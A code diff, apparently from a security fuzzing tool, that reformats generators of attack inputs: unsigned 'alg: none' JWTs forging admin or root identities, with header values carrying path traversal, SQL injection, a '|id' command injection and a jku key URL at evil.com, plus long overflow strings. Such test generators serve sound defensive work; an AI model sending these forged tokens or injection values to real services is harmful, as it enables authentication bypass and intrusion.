@@ -20,8 +20,10 @@ def unsigned_token(rng: Random) -> str:
     alg = ("none", "None", "NONE", "nOnE", "null", "")[int(rng.random() * 6)]
     extra = ("", "", ',"kid":"../../../../dev/null"', ',"kid":"x\' union select \'a"',
              ',"jku":"http://evil.com/jwks.json"', ',"kid":"|id"')[int(rng.random() * 6)]  # fmt: skip
-    head = f'{{"alg":"{alg}","typ":"JWT"{extra}}}' if rng.random() < 0.7 else (
-        f'{{"typ":"JWT","alg":"{alg}"{extra}}}'
+    head = (
+        f'{{"alg":"{alg}","typ":"JWT"{extra}}}'
+        if rng.random() < 0.7
+        else (f'{{"typ":"JWT","alg":"{alg}"{extra}}}')
     )
     user = ("admin", "root", draw(rng, "abcdefghijklm", 3, 8))[int(rng.random() * 3)]
     body = f'{{"sub":"{user}","role":"admin","iat":{1500000000 + int(rng.random() * 2e8)}}}'
@@ -169,7 +171,9 @@ latex:
         "token": unsigned_token,
         "batch": alias_batch,
         "deep": deep_query,
-        "overflow": lambda rng: "Aa0%\x90"[int(rng.random() * 5)] * (200 + int(rng.random() * 5000)),
+        "overflow": lambda rng: (
+            "Aa0%\x90"[int(rng.random() * 5)] * (200 + int(rng.random() * 5000))
+        ),
     },
 )
 _C = Category.OTHER
